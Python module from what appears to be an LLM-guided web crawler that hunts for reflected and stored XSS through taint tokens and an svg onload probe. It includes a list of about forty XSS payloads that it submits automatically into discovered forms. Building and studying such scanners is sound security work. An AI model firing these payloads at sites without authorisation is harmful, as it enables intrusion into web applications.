"""Crawling engine: execute interaction plans over HTTP and hunt for XSS.

The scan keeps a navigation graph whose nodes are application states, merged
through page similarity so one logical page never spawns duplicate work.  A
frontier of (state, goal) pairs drives exploration, one goal per top level
functional block.  Plans judged destructive (logout, delete and friends) are
demoted behind everything else; a landing on a pre-login state while
authenticated counts as a regression and triggers a re-login replay.

Taint flows: every text fill gets a unique ``tjx`` token appended.  A token
echoed by the request that carried it marks a reflected candidate; a token
showing up in any response to a request that did not carry it marks a stored
one.  Candidates are confirmed by resubmitting an executable probe and
parsing the response: only a real ``svg`` element with the probe's token in
its ``onload`` attribute yields a finding, so escaped echoes stay silent.

``run_baseline_scan`` is the memoryless document-order automaton used as a
point of comparison; on sites whose first authenticated link is "log out" it
keeps destroying its own session.
"""

from __future__ import annotations

import logging
import random
import re
import time
from collections import deque
from dataclasses import dataclass, field
from urllib.parse import urlencode, urljoin, urlsplit

import requests

from . import __version__
from .dom import DomNode, DomTree, EmptyInput, parse_html
from .intention import (
    ActionPlan,
    ElementAction,
    ElementCandidate,
    IntentionPath,
    NoInteractiveElements,
    ProviderFailure,
    generate_interactions,
    identify_key_elements,
    is_destructive,
)
from .refine import RefinedPage, compress_page
from .segmentation import segment
from .similarity import PageRecord, SimilarityConfig, page_similarity

log = logging.getLogger(__name__)

DEFAULT_BUDGET = 500
DEFAULT_TIMEOUT = 10.0
DEFAULT_TAG = f"intent-scanner/{__version__}"
MAX_REDIRECTS = 5
MAX_ROUNDS_PER_GOAL = 8
MAX_RECOVERY_ATTEMPTS = 3
INERT_AFTER = 2
POLITENESS_REMOTE = 0.2
LOCAL_HOSTS = ("127.0.0.1", "localhost", "::1")

TOKEN_RE = re.compile(r"tjx[0-9a-f]{8}")
PROBE_TEMPLATE = "<svg onload=alert('{token}')>"

TAINTABLE_INPUT_TYPES = ("", "text", "search", "email", "url", "tel")

# Classic XSS probe corpus used by the breadth pass over discovered forms.
PAYLOAD_BATTERY = (
    "<script>alert('{token}')</script>",
    "<img src=x onerror=alert('{token}')>",
    "<svg onload=alert('{token}')>",
    "<svg/onload=alert('{token}')>",
    "\"><script>alert('{token}')</script>",
    "'><script>alert('{token}')</script>",
    "<body onload=alert('{token}')>",
    "<iframe src=javascript:alert('{token}')></iframe>",
    "<input autofocus onfocus=alert('{token}')>",
    "<details open ontoggle=alert('{token}')>",
    "<marquee onstart=alert('{token}')>",
    "<video src=x onerror=alert('{token}')>",
    "<audio src=x onerror=alert('{token}')>",
    "<object data=javascript:alert('{token}')></object>",
    "<embed src=javascript:alert('{token}')>",
    "<select onchange=alert('{token}')><option>x</option></select>",
    "<textarea onfocus=alert('{token}') autofocus></textarea>",
    "<form onsubmit=alert('{token}')><button>x</button></form>",
    "<table background=javascript:alert('{token}')><tr><td>x</td></tr></table>",
    "javascript:alert('{token}')",
    "' onmouseover='alert(\"{token}\")",
    "\" onmouseover=\"alert('{token}')",
    "</textarea><script>alert('{token}')</script>",
    "</title><script>alert('{token}')</script>",
    "<a href=javascript:alert('{token}')>x</a>",
    "<img src=x onerror=alert(`{token}`)>",
    "<svg><animate onbegin=alert('{token}')></svg>",
    "<math href=javascript:alert('{token}')>x</math>",
    "<button formaction=javascript:alert('{token}')>x</button>",
    "<link rel=stylesheet href=javascript:alert('{token}')>",
    "<base href=javascript:alert('{token}')//>",
    "<meta http-equiv=refresh content=0;url=javascript:alert('{token}')>",
    "{token}'\"<>&",
    "<scr<script>ipt>alert('{token}')</scr</script>ipt>",
    "<IMG SRC=x OnErRoR=alert('{token}')>",
    "<img src='x' onerror='alert(\"{token}\")'>",
    "<div onpointerover=alert('{token}')>hover</div>",
    "<span draggable=true ondrag=alert('{token}')>x</span>",
    "<b onclick=alert('{token}')>click</b>",
    "<p onanimationstart=alert('{token}') style=animation-name:spin>x</p>",
)


class BudgetExhausted(RuntimeError):
    """The request budget is spent; no further requests may be sent."""


class TransportError(RuntimeError):
    """A request failed below HTTP (connection refused, timeout, ...)."""


class StartUnreachable(RuntimeError):
    """The start URL did not yield a usable page."""


# -- HTTP client ---------------------------------------------------------------


@dataclass(frozen=True)
class RequestRecord:
    sequence: int
    method: str
    url: str
    body_summary: str
    status: int
    purpose: str  # navigation | interaction | vuln_probe
    user_agent: str


@dataclass(frozen=True)
class Hop:
    record: RequestRecord
    body: str
    carried: tuple[str, ...]  # taint tokens sent with this very request


@dataclass
class FetchResult:
    hops: list[Hop]

    @property
    def status(self) -> int:
        return self.hops[-1].record.status

    @property
    def final_url(self) -> str:
        return self.hops[-1].record.url

    @property
    def text(self) -> str:
        return self.hops[-1].body

    @property
    def immediate(self) -> Hop:
        return self.hops[0]


def _is_local(url: str) -> bool:
    return (urlsplit(url).hostname or "") in LOCAL_HOSTS


def _summarize_body(data: list[tuple[str, str]] | None) -> str:
    if not data:
        return ""
    parts = []
    for name, value in data:
        shown = "***" if "pass" in name.lower() else value
        parts.append(f"{name}={shown}")
    summary = "&".join(parts)
    return summary if len(summary) <= 128 else summary[:125] + "..."


class HttpClient:
    """Budgeted, tagged, politeness-aware client with manual redirects.

    Every request, redirect hops included, consumes one unit of budget and
    appends a RequestRecord.  The user agent always ends with the scan tag.
    """

    def __init__(
        self,
        budget: int = DEFAULT_BUDGET,
        tag: str = DEFAULT_TAG,
        timeout: float = DEFAULT_TIMEOUT,
        politeness: float | None = None,
        session: requests.Session | None = None,
    ) -> None:
        self.budget = budget
        self.tag = tag
        self.timeout = timeout
        self.politeness = politeness
        self.session = session or requests.Session()
        self.user_agent = f"python-requests {self.tag}"
        self.records: list[RequestRecord] = []

    @property
    def remaining(self) -> int:
        return self.budget - len(self.records)

    def _pause(self, url: str) -> None:
        delay = self.politeness
        if delay is None:
            delay = 0.0 if _is_local(url) else POLITENESS_REMOTE
        if delay > 0:
            time.sleep(delay)

    def request(
        self,
        method: str,
        url: str,
        data: list[tuple[str, str]] | None = None,
        purpose: str = "navigation",
    ) -> FetchResult:
        hops: list[Hop] = []
        current_method, current_url, current_data = method.upper(), url, data
        for _ in range(MAX_REDIRECTS + 1):
            if self.remaining <= 0:
                raise BudgetExhausted(f"budget of {self.budget} requests spent")
            self._pause(current_url)
            try:
                reply = self.session.request(
                    current_method,
                    current_url,
                    data=current_data,
                    timeout=self.timeout,
                    allow_redirects=False,
                    headers={"User-Agent": self.user_agent},
                )
            except requests.RequestException as exc:
                raise TransportError(f"{current_method} {current_url}: {exc}") from exc
            record = RequestRecord(
                sequence=len(self.records) + 1,
                method=current_method,
                url=current_url,
                body_summary=_summarize_body(current_data),
                status=reply.status_code,
                purpose=purpose,
                user_agent=self.user_agent,
            )
            self.records.append(record)
            carried = _tokens_in_request(current_url, current_data)
            hops.append(Hop(record=record, body=reply.text, carried=carried))
            location = reply.headers.get("Location")
            if reply.status_code in (301, 302, 303, 307, 308) and location:
                current_url = urljoin(current_url, location)
                if reply.status_code in (301, 302, 303):
                    current_method, current_data = "GET", None
                continue
            break
        return FetchResult(hops=hops)

    def get(self, url: str, purpose: str = "navigation") -> FetchResult:
        return self.request("GET", url, purpose=purpose)


def _tokens_in_request(url: str, data: list[tuple[str, str]] | None) -> tuple[str, ...]:
    haystack = url + "&" + "&".join(f"{n}={v}" for n, v in (data or []))
    return tuple(dict.fromkeys(TOKEN_RE.findall(haystack)))


def perform_plan(client: HttpClient, plan: ActionPlan, purpose: str) -> FetchResult:
    """Translate a plan into HTTP: clicks become GETs, submits follow the form."""
    if plan.kind == "click":
        return client.request("GET", plan.target_url, purpose=purpose)
    payload = plan.payload()
    if plan.form_method.lower() == "post":
        return client.request("POST", plan.form_action, data=payload, purpose=purpose)
    joiner = "&" if "?" in plan.form_action else "?"
    url = plan.form_action + joiner + urlencode(payload)
    return client.request("GET", url, purpose=purpose)


# -- taint bookkeeping ------------------------------------------------------------


@dataclass(frozen=True)
class TaintInjection:
    token: str
    state_id: int
    parameter: str
    plan: ActionPlan
    sequence: int


class TaintRegistry:
    """Mints unique ``tjx<8 hex>`` markers and remembers where each went."""

    def __init__(self, rng: random.Random) -> None:
        self._rng = rng
        self.injections: dict[str, TaintInjection] = {}

    def mint(self) -> str:
        while True:
            token = f"tjx{self._rng.getrandbits(32):08x}"
            if token not in self.injections:
                return token

    def register(self, token: str, state_id: int, parameter: str, plan: ActionPlan) -> None:
        self.injections[token] = TaintInjection(
            token=token,
            state_id=state_id,
            parameter=parameter,
            plan=plan,
            sequence=len(self.injections),
        )

    def tokens_in(self, text: str) -> list[str]:
        found = [t for t in dict.fromkeys(TOKEN_RE.findall(text)) if t in self.injections]
        return found


def inject_and_track(
    plan: ActionPlan, registry: TaintRegistry, state_id: int, page: RefinedPage
) -> tuple[ActionPlan, list[str]]:
    """Append a fresh taint token to every text fill; returns (plan, tokens)."""
    tokens: list[str] = []
    actions: list[ElementAction] = []
    for action in plan.actions:
        if action.operation == "fill" and _taintable(page, action):
            token = registry.mint()
            tainted = ElementAction(
                node_id=action.node_id,
                tag=action.tag,
                name=action.name,
                operation="fill",
                value=f"{action.value} {token}".strip(),
            )
            registry.register(token, state_id, action.name, plan)
            tokens.append(token)
            actions.append(tainted)
        else:
            actions.append(action)
    if not tokens:
        return plan, []
    tainted_plan = ActionPlan(
        kind=plan.kind,
        actions=actions,
        description=plan.description,
        scope_node=plan.scope_node,
        form_action=plan.form_action,
        form_method=plan.form_method,
        target_url=plan.target_url,
    )
    return tainted_plan, tokens


def _taintable(page: RefinedPage, action: ElementAction) -> bool:
    if action.tag == "textarea":
        return True
    if action.tag != "input":
        return False
    node = page.tree.find(action.node_id)
    input_type = (node.attr("type") or "").lower() if node is not None else ""
    return input_type in TAINTABLE_INPUT_TYPES and input_type != "password" and "pass" not in action.name.lower()


# -- navigation graph ---------------------------------------------------------------


@dataclass
class StateNode:
    state_id: int
    url: str
    record: PageRecord
    page: RefinedPage
    cluster_size: int = 1
    pre_auth: bool = False
    tested: set[int] = field(default_factory=set)
    goals: list[str] = field(default_factory=list)


@dataclass
class Edge:
    edge_id: int
    from_state: int
    to_state: int  # -1 while unresolved or failed
    action: str
    method: str
    url: str
    fields: tuple[str, ...]
    request_ids: tuple[int, ...]
    path_labels: tuple[str, ...] = ()
    terminal_tokens: int = 0
    failed: bool = False


class NavigationGraph:
    """States deduplicated by page similarity plus the edges between them."""

    def __init__(self, sim: SimilarityConfig | None = None) -> None:
        self.sim = sim or SimilarityConfig()
        self.states: list[StateNode] = []
        self.edges: list[Edge] = []

    def find_or_add(self, url: str, page: RefinedPage) -> tuple[StateNode, bool]:
        record = PageRecord.from_page(url, page)
        found = self._lookup(record)
        if found is not None:
            found.cluster_size += 1
            return found, False
        state = StateNode(
            state_id=len(self.states), url=url, record=record, page=page
        )
        self.states.append(state)
        return state, True

    def find(self, url: str, page: RefinedPage) -> StateNode | None:
        """Merge lookup without inserting; probes must not mint states."""
        return self._lookup(PageRecord.from_page(url, page))

    def _lookup(self, record: PageRecord) -> StateNode | None:
        for state in self.states:
            if page_similarity(state.record, record, self.sim).mergeable:
                return state
        return None

    def add_edge(
        self,
        from_state: int,
        action: str,
        method: str,
        url: str,
        fields: tuple[str, ...],
        request_ids: tuple[int, ...],
        path: IntentionPath | None = None,
    ) -> Edge:
        edge = Edge(
            edge_id=len(self.edges),
            from_state=from_state,
            to_state=-1,
            action=action,
            method=method,
            url=url,
            fields=fields,
            request_ids=request_ids,
        )
        if path is not None:
            edge.path_labels = path.labels
            if path.steps:
                edge.terminal_tokens = path.steps[-1].token_estimate
        self.edges.append(edge)
        return edge

    def path_to(self, state_id: int) -> list[int]:
        """Edge ids of a shortest walk from state 0 to *state_id* (BFS)."""
        if state_id == 0:
            return []
        parent: dict[int, tuple[int, int]] = {}
        seen = {0}
        queue = deque([0])
        while queue:
            here = queue.popleft()
            for edge in self.edges:
                if edge.from_state == here and edge.to_state >= 0 and not edge.failed:
                    nxt = edge.to_state
                    if nxt not in seen:
                        seen.add(nxt)
                        parent[nxt] = (here, edge.edge_id)
                        if nxt == state_id:
                            break
                        queue.append(nxt)
        if state_id not in parent:
            return []
        trail: list[int] = []
        node = state_id
        while node != 0:
            node, edge_id = parent[node]
            trail.append(edge_id)
        trail.reverse()
        return trail


# -- findings -------------------------------------------------------------------


@dataclass
class Finding:
    kind: str  # stored | reflected
    sink_state: int
    sink_url: str
    parameter: str
    token: str
    evidence_offset: int
    evidence: str
    verified: bool
    reproduction: list[int]  # edge ids from the start state to the sink
    plans: list[ActionPlan]  # login plan (when needed) then the injection plan
    requires_login: bool


@dataclass
class FallbackNote:
    operation: str
    reason: str


@dataclass
class ScanResult:
    start_url: str
    seed: int
    tag: str
    stop_reason: str  # complete | budget
    graph: NavigationGraph
    records: list[RequestRecord]
    findings: list[Finding]
    started: str = ""
    finished: str = ""
    recovery_failures: int = 0


@dataclass(frozen=True)
class Credentials:
    username: str
    password: str
    login_url: str = ""


# -- scan internals ---------------------------------------------------------------


def _page_from(result: FetchResult) -> RefinedPage | None:
    if result.status >= 400:
        return None
    try:
        tree = parse_html(result.text, result.final_url)
    except EmptyInput:
        return None
    return compress_page(tree)


def _plan_signature(plan: ActionPlan) -> tuple[str, str, tuple[str, ...]]:
    if plan.kind == "click":
        return ("GET", plan.target_url.split("#")[0], ())
    names = tuple(sorted(plan.element_names()))
    return (plan.form_method.upper(), plan.form_action.split("#")[0], names)


def _plan_is_destructive(keys: list[ElementCandidate], plan: ActionPlan) -> bool:
    if plan.kind == "click":
        clicked = next((k for k in keys if k.tag == "a"), None)
        return clicked is not None and is_destructive(clicked.text)
    if any(k.fillable for k in keys):
        return False
    return any(is_destructive(k.text) for k in keys if not k.fillable)


def _find_login_form(page: RefinedPage) -> tuple[DomNode, DomNode] | None:
    """(form, password input) of the first password-bearing form, if any."""
    for node in page.tree.root.iter():
        if node.tag != "form":
            continue
        for inner in node.iter():
            if inner.tag == "input" and (inner.attr("type") or "").lower() == "password":
                return node, inner
    return None


def _build_login_plan(page: RefinedPage, creds: Credentials) -> ActionPlan | None:
    found = _find_login_form(page)
    if found is None:
        return None
    form, password = found
    actions: list[ElementAction] = []
    username_done = False
    submit: DomNode | None = None
    for node in form.iter():
        if node.tag == "input":
            itype = (node.attr("type") or "text").lower()
            name = node.attr("name") or ""
            if itype == "hidden" and name:
                actions.append(ElementAction(node.node_id, "input", name, "fill", node.attr("value") or ""))
            elif itype == "password" and node.node_id == password.node_id:
                actions.append(ElementAction(node.node_id, "input", name, "fill", creds.password))
            elif itype in ("", "text", "email") and not username_done and name:
                actions.append(ElementAction(node.node_id, "input", name, "fill", creds.username))
                username_done = True
            elif itype == "submit" and submit is None:
                submit = node
        elif node.tag == "button" and (node.attr("type") or "submit").lower() == "submit":
            submit = submit or node
    submit_name = (submit.attr("name") or "") if submit is not None else ""
    submit_id = submit.node_id if submit is not None else form.node_id
    actions.append(ElementAction(submit_id, "button", submit_name, "submit", ""))
    return ActionPlan(
        kind="submit",
        actions=actions,
        description="log in with configured credentials",
        scope_node=form.node_id,
        form_action=urljoin(page.tree.source_url, form.attr("action") or page.tree.source_url),
        form_method=(form.attr("method") or "get").lower(),
        target_url=page.tree.source_url,
    )


LOGIN_GOAL = "__credential_login__"


class _Scan:
    def __init__(
        self,
        start_url: str,
        provider,
        budget: int,
        seed: int,
        tag: str,
        credentials: Credentials | None,
        sim: SimilarityConfig | None,
        politeness: float | None,
    ) -> None:
        self.start_url = start_url
        self.provider = provider
        self.seed = seed
        self.tag = tag
        self.credentials = credentials
        self.client = HttpClient(budget=budget, tag=tag, politeness=politeness)
        self.registry = TaintRegistry(random.Random(seed))
        self.graph = NavigationGraph(sim)
        self.frontier: deque[tuple[int, str]] = deque()
        self.deferred: deque[tuple[int, ActionPlan, IntentionPath, list[ElementCandidate]]] = deque()
        self.findings: list[Finding] = []
        self.finding_keys: set[tuple[str, str, str]] = set()
        self.tested_signatures: set[tuple] = set()
        self.no_change: dict[tuple, int] = {}
        self.battery_targets: list[tuple[int, ActionPlan, str]] = []
        self.battery_keys: set[tuple] = set()
        self.history: list[tuple[str, str]] = []
        self.logged_in = False
        self.login_plan: ActionPlan | None = None
        self.beacons: set[int] = set()
        self.recovery_failures = 0

    # -- state plumbing ------------------------------------------------------

    def adopt(self, url: str, page: RefinedPage) -> tuple[StateNode, bool]:
        state, is_new = self.graph.find_or_add(url, page)
        if is_new:
            state.pre_auth = not self.logged_in
            state.goals = [b.label for b in segment(page, page.tree.root.node_id)]
            for goal in state.goals:
                self.frontier.append((state.state_id, goal))
            if (
                self.credentials is not None
                and not self.logged_in
                and _find_login_form(page) is not None
            ):
                self.frontier.appendleft((state.state_id, LOGIN_GOAL))
        return state, is_new

    def observe(self, from_state: StateNode, result: FetchResult) -> tuple[str, StateNode | None]:
        page = _page_from(result)
        if page is None:
            return "failed", None
        state, is_new = self.adopt(result.final_url, page)
        if is_new:
            return "new", state
        if state.state_id == from_state.state_id:
            return "no_change", state
        if self.logged_in and state.pre_auth:
            return "regressive", state
        return "known", state

    # -- execution -----------------------------------------------------------

    def execute(
        self,
        state: StateNode,
        plan: ActionPlan,
        path: IntentionPath | None,
        purpose: str,
    ) -> tuple[Edge | None, FetchResult | None]:
        signature = _plan_signature(plan)
        tainted, tokens = inject_and_track(plan, self.registry, state.state_id, state.page)
        try:
            result = perform_plan(self.client, tainted, purpose)
        except TransportError as exc:
            log.warning("transport failure: %s", exc)
            edge = self.graph.add_edge(
                state.state_id, tainted.description, signature[0], signature[1], signature[2], (), path
            )
            edge.failed = True
            return edge, None
        edge = self.graph.add_edge(
            state.state_id,
            tainted.description,
            signature[0],
            signature[1],
            signature[2],
            tuple(h.record.sequence for h in result.hops),
            path,
        )
        delta, to_state = self.observe(state, result)
        if to_state is not None:
            edge.to_state = to_state.state_id
        else:
            edge.failed = True
        if delta == "no_change":
            self.no_change[signature] = self.no_change.get(signature, 0) + 1
        if purpose != "vuln_probe":
            for name, value in plan.payload():
                if value:
                    self.history.append((name, value))
            del self.history[:-20]
        self.inspect(result, edge)
        if delta == "regressive":
            self.trace_back()
        return edge, result

    # -- taint inspection -------------------------------------------------------

    def inspect(self, result: FetchResult, edge: Edge) -> None:
        """Token in the carrying response: reflected; anywhere else: stored."""
        for hop in result.hops:
            for token in self.registry.tokens_in(hop.body):
                kind = "reflected" if token in hop.carried else "stored"
                self.confirm(kind, token, hop.record.url, edge)

    def confirm(self, kind: str, token: str, sink_url: str, via_edge: Edge) -> None:
        injection = self.registry.injections[token]
        key = (kind, urlsplit(sink_url).path, injection.parameter)
        if key in self.finding_keys:
            return
        self.finding_keys.add(key)
        probe_token = self.registry.mint()
        payload = PROBE_TEMPLATE.format(token=probe_token)
        probe_plan = _with_parameter(injection.plan, injection.parameter, payload)
        self.registry.register(probe_token, injection.state_id, injection.parameter, injection.plan)
        try:
            result = perform_plan(self.client, probe_plan, "vuln_probe")
        except TransportError:
            self.finding_keys.discard(key)
            return
        body, url = "", sink_url
        for hop in result.hops:
            if _probe_alive(hop.body, probe_token):
                body, url = hop.body, hop.record.url
                break
        if not body and urlsplit(sink_url).path != urlsplit(result.final_url).path:
            extra = self.client.get(sink_url, purpose="vuln_probe")
            if _probe_alive(extra.text, probe_token):
                body, url = extra.text, sink_url
        if not body:
            return  # escaped or filtered; candidate does not verify
        offset = body.find(probe_token)
        snippet = body[max(0, offset - 60) : offset + 60]
        sink_state = next(
            (s.state_id for s in self.graph.states if urlsplit(s.url).path == urlsplit(url).path),
            via_edge.to_state,
        )
        plans = []
        if self.logged_in and self.login_plan is not None:
            plans.append(self.login_plan)
        plans.append(injection.plan)
        self.findings.append(
            Finding(
                kind=kind,
                sink_state=sink_state,
                sink_url=url,
                parameter=injection.parameter,
                token=probe_token,
                evidence_offset=offset,
                evidence=snippet,
                verified=True,
                reproduction=self.graph.path_to(injection.state_id) + [via_edge.edge_id],
                plans=plans,
                requires_login=self.logged_in,
            )
        )

    # -- recovery ---------------------------------------------------------------

    def trace_back(self) -> bool:
        """Replay the recorded login to restore a lost authenticated state."""
        if self.login_plan is None:
            self.recovery_failures += 1
            self.logged_in = False
            return False
        for _ in range(MAX_RECOVERY_ATTEMPTS):
            try:
                result = perform_plan(self.client, self.login_plan, "navigation")
            except TransportError:
                continue
            page = _page_from(result)
            if page is not None:
                state, _ = self.adopt(result.final_url, page)
                if not state.pre_auth:
                    return True
        self.recovery_failures += 1
        self.logged_in = False
        return False

    # -- frontier work ------------------------------------------------------------

    def do_login(self, state: StateNode) -> None:
        plan = _build_login_plan(state.page, self.credentials)
        if plan is None:
            return
        signature = _plan_signature(plan)
        if signature in self.tested_signatures:
            return
        self.tested_signatures.add(signature)
        try:
            result = perform_plan(self.client, plan, "navigation")
        except TransportError:
            return
        edge = self.graph.add_edge(
            state.state_id, plan.description, signature[0], signature[1], signature[2],
            tuple(h.record.sequence for h in result.hops),
        )
        page = _page_from(result)
        if page is None or result.status >= 400:
            return
        self.beacons = {s.state_id for s in self.graph.states}
        self.logged_in = True
        self.login_plan = plan
        landed, _ = self.adopt(result.final_url, page)
        edge.to_state = landed.state_id
        if landed.state_id in self.beacons and landed.pre_auth:
            # Same page came back: the credentials did not change anything.
            self.logged_in = False
            self.login_plan = None

    def work_goal(self, state: StateNode, goal: str) -> None:
        for _ in range(MAX_ROUNDS_PER_GOAL):
            try:
                path, keys = identify_key_elements(
                    state.page, self.provider, goal, frozenset(state.tested)
                )
            except (NoInteractiveElements, ProviderFailure):
                return
            if not keys:
                return
            try:
                plan = generate_interactions(
                    state.page, keys, path, self.provider, tuple(self.history)
                )
            except NoInteractiveElements:
                return
            state.tested.update(k.node_id for k in keys)
            state.tested.update(a.node_id for a in plan.actions)
            signature = _plan_signature(plan)
            if signature in self.tested_signatures:
                continue
            self.tested_signatures.add(signature)
            if self.no_change.get(signature, 0) >= INERT_AFTER:
                continue
            if self.provider.defer_destructive and _plan_is_destructive(keys, plan):
                self.deferred.append((state.state_id, plan, path, keys))
                continue
            self.remember_battery_target(state, plan)
            self.execute(state, plan, path, "interaction")

    def remember_battery_target(self, state: StateNode, plan: ActionPlan) -> None:
        if plan.kind != "submit":
            return
        if any("pass" in a.name.lower() for a in plan.actions if a.name):
            return
        parameter = next(
            (
                a.name
                for a in plan.actions
                if a.operation == "fill" and a.name and _taintable(state.page, a)
            ),
            "",
        )
        if not parameter:
            return
        key = _plan_signature(plan)
        if key in self.battery_keys:
            return
        self.battery_keys.add(key)
        self.battery_targets.append((state.state_id, plan, parameter))

    # -- phases -----------------------------------------------------------------

    def run_battery(self) -> None:
        for state_id, plan, parameter in self.battery_targets:
            state = self.graph.states[state_id]
            for template in PAYLOAD_BATTERY:
                token = self.registry.mint()
                self.registry.register(token, state_id, parameter, plan)
                probe = _with_parameter(plan, parameter, template.format(token=token))
                result = perform_plan(self.client, probe, "vuln_probe")
                edge = self.graph.add_edge(
                    state.state_id,
                    f"probe {parameter} ({plan.description})",
                    *_plan_signature(plan),
                    tuple(h.record.sequence for h in result.hops),
                )
                page = _page_from(result)
                landed = self.graph.find(result.final_url, page) if page else None
                if landed is not None:
                    edge.to_state = landed.state_id
                self.inspect(result, edge)

    def drain_frontier(self) -> None:
        while self.frontier:
            state_id, goal = self.frontier.popleft()
            state = self.graph.states[state_id]
            if goal == LOGIN_GOAL:
                self.do_login(state)
            else:
                self.work_goal(state, goal)

    def run_deferred(self) -> None:
        while self.deferred:
            state_id, plan, path, keys = self.deferred.popleft()
            self.execute(self.graph.states[state_id], plan, path, "interaction")

    def run(self) -> ScanResult:
        started = time.strftime("%Y-%m-%dT%H:%M:%S")
        try:
            first = self.client.get(self.start_url, purpose="navigation")
        except (TransportError, BudgetExhausted) as exc:
            raise StartUnreachable(f"{self.start_url}: {exc}") from exc
        if first.status >= 400:
            raise StartUnreachable(f"{self.start_url}: HTTP {first.status}")
        page = _page_from(first)
        if page is None:
            raise StartUnreachable(f"{self.start_url}: no parsable page")
        self.adopt(first.final_url, page)

        stop_reason = "complete"
        try:
            self.drain_frontier()
            self.run_battery()
            self.run_deferred()
            self.drain_frontier()  # destructive actions may have opened new areas
        except BudgetExhausted:
            stop_reason = "budget"
        return ScanResult(
            start_url=self.start_url,
            seed=self.seed,
            tag=self.tag,
            stop_reason=stop_reason,
            graph=self.graph,
            records=self.client.records,
            findings=self.findings,
            started=started,
            finished=time.strftime("%Y-%m-%dT%H:%M:%S"),
            recovery_failures=self.recovery_failures,
        )


def _with_parameter(plan: ActionPlan, parameter: str, value: str) -> ActionPlan:
    actions = [
        ElementAction(a.node_id, a.tag, a.name, a.operation, value)
        if a.operation == "fill" and a.name == parameter
        else a
        for a in plan.actions
    ]
    return ActionPlan(
        kind=plan.kind,
        actions=actions,
        description=plan.description,
        scope_node=plan.scope_node,
        form_action=plan.form_action,
        form_method=plan.form_method,
        target_url=plan.target_url,
    )


def _probe_alive(body: str, token: str) -> bool:
    """True when the probe survived as a real element, not an escaped echo."""
    if token not in body:
        return False
    try:
        tree = parse_html(body, "")
    except EmptyInput:
        return False
    for node in tree.root.iter():
        if node.tag == "svg" and token in (node.attr("onload") or ""):
            return True
    return False


def run_scan(
    start_url: str,
    provider,
    budget: int = DEFAULT_BUDGET,
    seed: int = 0,
    tag: str = DEFAULT_TAG,
    credentials: Credentials | None = None,
    sim: SimilarityConfig | None = None,
    politeness: float | None = None,
) -> ScanResult:
    """Intention-guided scan of *start_url*; deterministic for a fixed seed."""
    scan = _Scan(start_url, provider, budget, seed, tag, credentials, sim, politeness)
    return scan.run()


def replay_finding(
    finding: Finding,
    tag: str = DEFAULT_TAG,
    budget: int = 25,
    politeness: float | None = None,
) -> bool:
    """Re-trigger a finding with a fresh session and a fresh probe token."""
    client = HttpClient(budget=budget, tag=tag, politeness=politeness)
    token = f"tjx{random.Random(987654321).getrandbits(32):08x}"
    payload = PROBE_TEMPLATE.format(token=token)
    try:
        for plan in finding.plans[:-1]:
            perform_plan(client, plan, "vuln_probe")
        probe = _with_parameter(finding.plans[-1], finding.parameter, payload)
        result = perform_plan(client, probe, "vuln_probe")
        if any(_probe_alive(h.body, token) for h in result.hops):
            return True
        check = client.get(finding.sink_url, purpose="vuln_probe")
    except (TransportError, BudgetExhausted):
        return False
    return _probe_alive(check.text, token)


# -- the naive comparison crawler ---------------------------------------------------


class BaselineProvider:
    """Document-order test double: always the first thing it sees.

    No destructive awareness, no tested-element memory; values come from the
    configured credentials when a field looks like a login field, otherwise a
    constant.  Plugging this into the naive loop reproduces the classic
    logout trap.
    """

    context_window = 32768
    defer_destructive = False

    def __init__(self, credentials: Credentials | None = None) -> None:
        self.credentials = credentials

    def select_block(self, ctx, blocks):
        from .intention import BlockDecision

        return BlockDecision(index=0, intent="first block in document order")

    def select_elements(self, ctx, elements):
        from .intention import ElementDecision

        return [ElementDecision(elements[0].index, "use")] if elements else []

    def generate_value(self, ctx, element, history):
        if element.type in ("checkbox", "radio"):
            return True
        name = (element.name + " " + element.type).lower()
        if self.credentials is not None:
            if "pass" in name:
                return self.credentials.password
            if "user" in name or "login" in name or "mail" in name:
                return self.credentials.username
        return "test"


@dataclass
class BaselineResult:
    visited_paths: list[str]  # normalized, in first-hit order
    records: list[RequestRecord]
    stop_reason: str


def run_baseline_scan(
    start_url: str,
    credentials: Credentials | None = None,
    budget: int = 60,
    tag: str = DEFAULT_TAG,
    politeness: float | None = None,
) -> BaselineResult:
    """Memoryless document-order crawl: follow the first link, else submit
    the first form with default values.  This is the comparison automaton;
    it has no notion of goals, destructive actions or lost sessions.
    """
    provider = BaselineProvider(credentials)
    client = HttpClient(budget=budget, tag=tag, politeness=politeness)
    visited: list[str] = []

    def note(url: str) -> None:
        path = urlsplit(url).path or "/"
        if path not in visited:
            visited.append(path)

    try:
        result = client.get(start_url, purpose="navigation")
    except (TransportError, BudgetExhausted) as exc:
        raise StartUnreachable(f"{start_url}: {exc}") from exc
    for hop in result.hops:
        note(hop.record.url)

    while True:
        page = _page_from(result)
        if page is None:
            break
        action = _first_action(page, provider)
        if action is None:
            break
        try:
            result = perform_plan(client, action, "navigation")
        except BudgetExhausted:
            return BaselineResult(visited, client.records, "budget")
        except TransportError:
            break
        for hop in result.hops:
            note(hop.record.url)
    return BaselineResult(visited, client.records, "complete")


def _first_action(page: RefinedPage, provider: BaselineProvider) -> ActionPlan | None:
    base = page.tree.source_url
    for node in page.tree.root.iter():
        if node.tag == "a" and node.attr("href"):
            target = urljoin(base, node.attr("href"))
            if urlsplit(target).scheme in ("http", "https"):
                return ActionPlan(
                    kind="click",
                    actions=[ElementAction(node.node_id, "a", "", "click", "")],
                    description=f"follow first link {node.text_content().strip()!r}",
                    scope_node=node.node_id,
                    target_url=target,
                )
    for node in page.tree.root.iter():
        if node.tag != "form":
            continue
        actions: list[ElementAction] = []
        for inner in node.iter():
            if inner.tag == "input":
                itype = (inner.attr("type") or "text").lower()
                name = inner.attr("name") or ""
                if not name or itype in ("submit", "reset", "button", "image"):
                    continue
                if itype == "hidden":
                    actions.append(ElementAction(inner.node_id, "input", name, "fill", inner.attr("value") or ""))
                elif itype in ("checkbox", "radio"):
                    actions.append(ElementAction(inner.node_id, "input", name, "check", inner.attr("value") or "on"))
                else:
                    stub = ElementCandidate(
                        index=0, node_id=inner.node_id, tag="input", type=itype,
                        name=name, text="", href="", options=(), group_id=0,
                        tested=False, disabled=False, fillable=True, submits=False,
                    )
                    value = provider.generate_value(None, stub, ())
                    actions.append(ElementAction(inner.node_id, "input", name, "fill", str(value)))
            elif inner.tag == "textarea" and inner.attr("name"):
                actions.append(ElementAction(inner.node_id, "textarea", inner.attr("name"), "fill", "test"))
        submit_name = next(
            (
                n.attr("name") or ""
                for n in node.iter()
                if (n.tag == "button" and (n.attr("type") or "submit").lower() == "submit")
                or (n.tag == "input" and (n.attr("type") or "").lower() == "submit")
            ),
            "",
